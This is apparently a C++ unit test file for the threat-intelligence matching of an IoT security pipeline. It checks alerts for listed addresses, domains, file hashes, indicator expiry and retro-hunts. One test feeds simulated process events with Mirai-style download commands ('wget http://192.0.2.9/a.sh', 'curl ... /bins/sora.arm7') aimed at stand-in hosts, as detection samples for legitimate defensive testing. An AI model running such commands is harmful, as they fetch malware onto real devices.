#include "pipeline/indicators.h"

#include <map>

#include <gmock/gmock.h>

#include "intelligence/index_builder.h"
#include "intelligence/matcher.h"
#include "pipeline_harness.h"

namespace picket::pipeline {
namespace {

using intelligence::IndexBuilder;
using intelligence::Listing;

Listing listed(std::uint8_t confidence = 80) {
  return {.confidence = confidence,
          .from = kNoon - Duration::days(1),
          .threat = "Mirai",
          .reference = "https://feed.example/1"};
}

/// Sets of indicators by version, and an engine that can open them.
class IndicatorTest : public testing::Test {
 protected:
  IndicatorTest() { engine.engine().use_indicators(open()); }

  OpenIndicators open() {
    return [this](std::string_view version) -> Result<std::shared_ptr<const intelligence::Index>> {
      const auto found = sets_.find(std::string(version));
      if (found == sets_.end()) return fail(Errc::not_found, "test.set");
      return found->second;
    };
  }
  void make(const std::string& version, const std::vector<std::string>& indicators, const Listing& listing = listed()) {
    auto builder = *IndexBuilder::make({.path = folder_.path() + "/" + version,
                                        .made = kNoon,
                                        .minimum_confidence = 30,
                                        .feeds = {{"feed", "CC0", "https://feed.example/"}}});
    for (const std::string& text : indicators) {
      ASSERT_TRUE(builder->add(*intelligence::parse_observable(text), listing)) << text;
    }
    ASSERT_TRUE(builder->finish());
    sets_[version] = *intelligence::Index::open(folder_.path() + "/" + version);
  }
  void put_in_force(const std::string& version, Timestamp at = kNoon) {
    engine.feed({.enqueued = at,
                 .identity = {"hub", "", "", ""},
                 .properties = {{"name", "indicators"}, {"version", version}},
                 .kind = journal::RecordKind::intelligence_change});
  }
  void list(const std::vector<std::string>& indicators, const Listing& listing = listed()) {
    make("v1", indicators, listing);
    put_in_force("v1");
  }
  void tell(const RetroHunt& hunt, Timestamp at = kNoon) {
    engine.feed({.body = to_json(hunt),
                 .enqueued = at,
                 .identity = {"hub", "", "", ""},
                 .properties = {{"name", "retro-hunt"}, {"version", hunt.version}},
                 .kind = journal::RecordKind::intelligence_change});
  }

  EngineHarness engine;
  TempFolder folder_;
  std::map<std::string, std::shared_ptr<const intelligence::Index>> sets_;
};

TestEvent connection(const std::string& address, const std::string& port = "443", const std::string& direction = "Out",
                     const std::string& result = "Success") {
  return {"ConnectionCreate",
          {{"RemoteAddress", address},
           {"RemotePort", port},
           {"Direction", direction},
           {"Protocol", "tcp"},
           {"ProcessId", "7"},
           {"Executable", "/usr/bin/agent"},
           {"Result", result}},
          kNoon,
          ""};
}
TestEvent look_up(const std::string& name) {
  return {"Dns", {{"QueryName", name}, {"QueryType", "A"}, {"ResponseCode", "NOERROR"}}, kNoon, ""};
}

TEST_F(IndicatorTest, AConnectionToAListedAddressIsAnAlertThatSaysWhy) {
  list({"192.0.2.66"});
  engine.feed({connection("192.0.2.66"), connection("192.0.2.67")});
  const auto alerts = engine.alerts("IoT_TiConnection");
  ASSERT_EQ(alerts.size(), 1u);
  const AlertChange& alert = alerts[0];
  EXPECT_EQ(alert.severity, "Medium");
  EXPECT_EQ(property_of(alert, "Observed"), "192.0.2.66:443");
  EXPECT_EQ(property_of(alert, "Indicator"), "192.0.2.66");
  EXPECT_EQ(property_of(alert, "Feed"), "feed");
  EXPECT_EQ(property_of(alert, "Feed Licence"), "CC0");
  EXPECT_EQ(property_of(alert, "Threat"), "Mirai");
  EXPECT_EQ(property_of(alert, "Reference"), "https://feed.example/1");
  EXPECT_EQ(property_of(alert, "Confidence"), "80");
  EXPECT_EQ(property_of(alert, "Executable"), "/usr/bin/agent");
  EXPECT_EQ(property_of(alert, "Found By"), "");
  EXPECT_EQ(alert.evidence.size(), 1u);
}

TEST_F(IndicatorTest, ASureSourceMakesTheAlertHigh) {
  list({"192.0.2.66"}, listed(95));
  engine.feed({connection("192.0.2.66")});
  ASSERT_EQ(engine.alerts("IoT_TiConnection").size(), 1u);
  EXPECT_EQ(engine.alerts("IoT_TiConnection")[0].severity, "High");
}

TEST_F(IndicatorTest, AnEndpointIsAboutItsPort) {
  list({"192.0.2.66:4444"});
  engine.feed({connection("192.0.2.66", "443"), connection("192.0.2.66", "4444,4445")});
  EXPECT_TRUE(engine.alerts().empty());
  engine.feed({connection("::ffff:192.0.2.66", "4444")});
  EXPECT_EQ(engine.alerts("IoT_TiConnection").size(), 1u);
}

TEST_F(IndicatorTest, ConnectionsFromOutsideShareOneAlertAndFailedOnesAreNone) {
  list({"192.0.2.0/24"});
  engine.feed({connection("192.0.2.1", "50000", "In", "Fail")});
  EXPECT_TRUE(engine.alerts().empty());
  engine.feed({connection("192.0.2.2", "50000", "In"), connection("192.0.2.3", "50000", "In")});
  const auto alerts = engine.alerts("IoT_TiConnection");
  ASSERT_EQ(alerts.size(), 1u);
  EXPECT_EQ(alerts[0].count, 2u);
}

TEST_F(IndicatorTest, LoginsFromListedAddressesCountWhenTheySucceed) {
  list({"192.0.2.7"});
  engine.feed({failed_login(kNoon)});
  EXPECT_TRUE(engine.alerts("IoT_TiConnection").empty());
  engine.feed({good_login(kNoon)});
  EXPECT_EQ(engine.alerts("IoT_TiConnection").size(), 1u);
}

TEST_F(IndicatorTest, NamesBelowAListedOneAreLookedUp) {
  list({"evil.example"});
  engine.feed({look_up("cdn.evil.example"), look_up("notevil.example")});
  const auto alerts = engine.alerts("IoT_MaliciousNameQueriesDetection");
  ASSERT_EQ(alerts.size(), 1u);
  EXPECT_EQ(property_of(alerts[0], "Observed"), "cdn.evil.example");
  EXPECT_EQ(property_of(alerts[0], "Indicator"), "evil.example");
}

TEST_F(IndicatorTest, AnAnswerThatIsListedSpeaksForTheName) {
  list({"192.0.2.80"});
  const std::string body = message_json({look_up("fresh.example")});
  std::string with = body;
  with.insert(with.find("\"QueryType\""), "\"Answers\":[\"198.51.100.1\",\"192.0.2.80\"],");
  engine.feed({.body = with});
  const auto alerts = engine.alerts("IoT_MaliciousNameQueriesDetection");
  ASSERT_EQ(alerts.size(), 1u);
  EXPECT_EQ(property_of(alerts[0], "Observed"), "fresh.example = 192.0.2.80");
}

TEST_F(IndicatorTest, UrlsPathsAndHostsOfCommandsAreListed) {
  list({"http://192.0.2.9/a.sh", "/bins/sora.arm7", "evil.example"});
  engine.feed({process("/usr/bin/wget", "wget http://192.0.2.9/a.sh"),
               process("/usr/bin/curl", "curl -o x http://198.51.100.4:8080/bins/sora.arm7"),
               process("/bin/sh", "sh -c 'wget https://www.evil.example/whatever'"),
               process("/usr/bin/wget", "wget http://192.0.2.9/b.sh")});
  const auto alerts = engine.alerts("IoT_PossibleMalware");
  std::vector<std::string> indicators;
  for (const AlertChange& alert : alerts) {
    if (!property_of(alert, "Indicator").empty()) indicators.push_back(property_of(alert, "Indicator"));
  }
  EXPECT_THAT(indicators, testing::UnorderedElementsAre("192.0.2.9/a.sh", "/bins/sora.arm7", "evil.example"));
}

TEST_F(IndicatorTest, FilesThatAreRunOrWrittenAreKnownByTheirHash) {
  const std::string bad(64, 'a');
  list({bad});
  engine.feed({process("/tmp/x", "/tmp/x", {{"ExecutableHash", bad}}),
               process("/bin/ls", "ls", {{"ExecutableHash", std::string(64, 'b')}})});
  engine.feed({TestEvent{"FileSystem", {{"Path", "/tmp/y"}, {"Mask", "Created"}, {"Hash", bad}}, kNoon, ""}});
  const auto alerts = engine.alerts("IoT_MaliciousFile");
  ASSERT_EQ(alerts.size(), 1u) << "one file is one alert";
  EXPECT_EQ(alerts[0].count, 2u);
}

TEST_F(IndicatorTest, WhatHasExpiredByTheRecordsTimeIsNoAlert) {
  Listing listing = listed();
  listing.until = kNoon + Duration::hours(2);
  list({"192.0.2.66"}, listing);
  engine.feed({connection("192.0.2.66")}, kNoon + Duration::hours(3));
  EXPECT_TRUE(engine.alerts().empty());
  engine.feed({connection("192.0.2.66")}, kNoon + Duration::hours(1));
  EXPECT_EQ(engine.alerts().size(), 1u);
}

TEST_F(IndicatorTest, ANewSetIsInForceFromItsRecordOn) {
  list({"192.0.2.1"});
  make("v2", {"192.0.2.2"});
  engine.feed({connection("192.0.2.2")});
  EXPECT_TRUE(engine.alerts().empty());
  put_in_force("v2");
  engine.feed({connection("192.0.2.1"), connection("192.0.2.2")});
  ASSERT_EQ(engine.alerts().size(), 1u);
  EXPECT_EQ(property_of(engine.alerts()[0], "Indicator"), "192.0.2.2");
}

TEST_F(IndicatorTest, TheSetBeforeStaysWhenANewOneHasNoFile) {
  list({"192.0.2.1"});
  put_in_force("lost");
  engine.feed({connection("192.0.2.1")});
  EXPECT_EQ(engine.alerts().size(), 1u);
}

TEST_F(IndicatorTest, ARestartGoesOnWithTheSetInForce) {
  list({"192.0.2.1"});
  engine.restart();
  engine.engine().use_indicators(open());
  engine.feed({connection("192.0.2.1")});
  EXPECT_EQ(engine.alerts("IoT_TiConnection").size(), 1u);
}

RetroHit retro_hit() {
  return {.device = {"hub", "device-1", "", "g1"},
          .sighting = {.kind = SightingKind::name,
                       .observed = "a.evil.example",
                       .indicator = "evil.example",
                       .indicator_kind = "domain",
                       .feeds = "feed",
                       .licence = "CC0",
                       .threat = "\"Mirai\"\n",
                       .confidence = 80,
                       .listed = kNoon},
          .first = kNoon - Duration::days(5),
          .last = kNoon - Duration::days(4),
          .count = 3,
          .evidence = EvidenceRow{{7, 1, 0}, "event-7", kNoon - Duration::days(5)}};
}

TEST_F(IndicatorTest, ARetroHuntIsAnAlertThatSaysSoAndCountsOnce) {
  const RetroHunt hunt{.version = "v1", .days = 30, .hits = {retro_hit()}};
  tell(hunt);
  tell(hunt, noon(60));
  engine.restart();
  tell(hunt, noon(120));
  const auto alerts = engine.alerts("IoT_MaliciousNameQueriesDetection");
  ASSERT_EQ(alerts.size(), 1u);
  EXPECT_EQ(alerts[0].count, 3u);
  EXPECT_EQ(alerts[0].device.device_id, "device-1");
  EXPECT_EQ(alerts[0].start, kNoon - Duration::days(5));
  EXPECT_THAT(property_of(alerts[0], "Found By"), testing::HasSubstr("retro-hunt over the stored events of 30 days"));
  ASSERT_EQ(alerts[0].evidence.size(), 1u);
  EXPECT_EQ(alerts[0].evidence[0].raw_event_id, "event-7");
}

TEST(RetroHuntRecord, IsReadAsItWasWritten) {
  RetroHit bare = retro_hit();
  bare.evidence.reset();
  const RetroHunt hunt{.version = "v\"1", .days = 7, .hits = {retro_hit(), bare}};
  const auto again = parse_retro_hunt(to_json(hunt));
  ASSERT_TRUE(again);
  EXPECT_EQ(*again, hunt);
}

TEST(RetroHuntRecord, BrokenOnesAreRefused) {
  EXPECT_FALSE(parse_retro_hunt("{}"));
  EXPECT_FALSE(parse_retro_hunt(R"({"Version":"v","Days":1,"Hits":[{}]})"));
  RetroHunt many{.version = "v", .days = 1, .hits = std::vector<RetroHit>(kRetroHitsMax, retro_hit())};
  EXPECT_TRUE(parse_retro_hunt(to_json(many)));
  many.hits.push_back(retro_hit());
  EXPECT_FALSE(parse_retro_hunt(to_json(many)));
}

}  // namespace
}  // namespace picket::pipeline
